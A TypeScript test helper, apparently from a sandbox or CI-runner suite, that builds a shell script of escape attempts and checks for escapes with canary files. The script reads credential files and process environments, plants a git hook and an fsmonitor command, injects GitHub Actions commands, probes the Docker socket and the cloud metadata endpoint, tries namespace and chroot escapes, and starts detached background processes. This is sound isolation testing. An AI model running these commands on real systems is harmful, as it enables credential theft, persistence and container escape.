import type { HostileHost } from './host.ts';

/**
 * A quality check that tries whatever a command can try and passes. It prints what it gets hold of between two lines, so
 * that a test sees that it ran to its end, and so that all of it is looked through for secrets.
 */
export function attackingCheck(host: HostileHost): string {
  const { ports, home, socket } = host;
  const canary = (trap: string) => `echo sprung >> '${host.canary(trap)}'`;
  return `echo "begin of attack"
env
cat /proc/self/environ /proc/1/environ /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n'
ps auxeww
cat ${home}/.netrc ${home}/.git-credentials ~/.netrc /root/.netrc
ls -A ${home} ${host.temp} ..  ../git ../../*/git
cat ../git/config; echo x >> ../git/config; mkdir -p ../git/hooks && echo '${canary('hook-of-the-host')}' > ../git/hooks/pre-push
git --git-dir ../git config core.fsmonitor "${canary('fsmonitor-of-the-host').replaceAll('"', '\\"')}"
git config --global core.sshCommand false
${canary('write-outside')}
ln -s '${host.canary('write-through-link')}' through; echo sprung >> through; rm through
echo sprung >> ../../outside/up; echo sprung >> /usr/hostile-canary; echo sprung >> /etc/hostile-canary
for line in '::set-env name=PATH::/tmp' '::add-mask::Hello' '::add-path::/tmp' '::save-state name=a::b' '##[set-env name=A]b' '::stop-commands::x' '::error::attack'; do echo "$line"; done
for file in "$GITHUB_ENV" "$GITHUB_PATH" "$GITHUB_OUTPUT" "$GITHUB_STEP_SUMMARY"; do echo 'PATH=/tmp' >> "$file"; done
exec 3<>/dev/tcp/127.0.0.1/${ports.tcp}; exec 3<>'/dev/tcp/::1/${ports.tcp6 ?? 80}'; echo x > /dev/udp/127.0.0.1/${ports.udp}
curl -sS -m 1 http://127.0.0.1:${ports.tcp}/; curl -sS -m 1 --unix-socket ${socket} http://x/; curl -sS -m 1 http://169.254.169.254/
curl -sS -m 1 --unix-socket /var/run/docker.sock http://x/info; getent hosts example.com
node -e 'require("net").connect("${socket}").on("error", (e) => console.log(e.code))'
mount --bind / mnt; umount /tmp; unshare -Urm true; nsenter -t 1 -a true; chroot /proc/1/root ls
setsid nohup sleep 9871 & (setsid sh -c 'while :; do sleep 9872; done' &)
echo "end of attack"
`;
}
